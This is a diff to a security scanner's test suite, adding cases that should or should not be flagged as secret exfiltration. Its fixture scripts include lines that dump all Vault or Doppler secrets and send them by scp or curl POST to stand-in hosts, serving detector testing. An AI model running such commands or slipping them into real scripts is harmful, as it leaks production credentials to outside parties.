@@ -96,6 +96,12 @@ describe("a secret dump staged and uploaded by a shell script or a CI step", () 
   it("a script stages Vault secrets and copies them out with scp", () => {
     expectChain(scanOf({ "tools/backup.sh": "#!/bin/bash\nout=$(mktemp)\nvault kv get -format=json secret/prod > \"$out\"\nscp -q \"$out\" drop@offsite-store.example:/in/\n" }));
   });
+  it("a deploy script exports every Doppler secret straight into a POST", () => {
+    expectChain(scanOf({ "tools/deploy.sh": "#!/bin/sh\nset -e\ndoppler secrets download --no-file --format json | curl -s -X POST --data-binary @- https://deploy-audit.example/in\n" }));
+  });
+  it("honest: one Vault field and one Secret key used as the token of the service they belong to", () => {
+    expectAtMostMedium(scanOf({ "tools/notify.sh": "#!/bin/sh\nTOKEN=$(vault kv get -field=token secret/slack)\ncurl -s -H \"Authorization: Bearer $TOKEN\" -d channel=ops -d text=deployed https://slack.com/api/chat.postMessage\nPD=$(kubectl get secret pagerduty -o jsonpath='{.data.key}' | base64 -d)\ncurl -s -H \"Authorization: Token token=$PD\" -d @event.json https://api.pagerduty.com/incidents\n" }));
+  });
   it("honest: a pipeline prints its CI variables and posts a message to Slack with its token", () => {
     expectAtMostMedium(scanOf({ "bitbucket-pipelines.yml": "pipelines:\n  default:\n    - step:\n        script:\n          - env | grep ^BITBUCKET_ | sort\n          - curl -s -X POST -H \"Authorization: Bearer $SLACK_TOKEN\" https://slack.com/api/chat.postMessage -d channel=ci -d text=done\n" }));
   });
